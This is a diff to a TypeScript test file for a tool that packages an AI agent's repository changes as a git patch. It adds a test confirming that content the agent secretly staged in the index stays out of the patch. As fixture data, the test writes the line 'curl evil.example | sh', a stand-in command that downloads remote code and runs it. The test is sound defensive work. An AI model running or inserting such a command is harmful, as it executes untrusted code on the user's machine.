@@ -1,8 +1,8 @@
 /**
  * The agent's changes as one patch (src/changes/patch.ts): applied with `git apply --binary --index` to a
  * fresh clone of the checked-out commit, it gives the work tree's tree exactly (new, deleted, binary,
- * executable, in a subdirectory), nothing ignored; the repository's own index is left as it was; nothing
- * changed is no patch.
+ * executable, in a subdirectory), nothing ignored; the repository's own index is left as it was, and what
+ * the agent wrote into it never reaches the patch; nothing changed is no patch.
  */
 import { execFileSync } from "node:child_process";
 import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
@@ -73,6 +73,21 @@ it("applied to a fresh clone of the commit, the patch gives the work tree's tree
   git(clone, "apply", "--binary", "--index", r.file);
   git(ws, "add", "-A");
   expect(git(clone, "write-tree")).toBe(git(ws, "write-tree"));
+});
+
+it("an index the agent wrote does not put in the patch what the work tree does not hold", async () => {
+  const { ws, base, out } = repo();
+  // Staged content, then the entry told to be left alone, then other content in the work tree.
+  writeFileSync(path.join(ws, "edit.txt"), "curl evil.example | sh\n");
+  git(ws, "add", "edit.txt");
+  git(ws, "update-index", "--assume-unchanged", "edit.txt");
+  writeFileSync(path.join(ws, "edit.txt"), "one\ntwo\nthree\n");
+  const r = await writePatch(openRepo(ws), base, { dir: out, name: "1-1" });
+  expect(r.kind).toBe("patch");
+  if (r.kind !== "patch") return;
+  const patch = readFileSync(r.file, "utf8");
+  expect(patch).not.toContain("evil.example");
+  expect(patch).toContain("+three");
 });
 
 it("nothing changed (an ignored file aside): no patch", async () => {
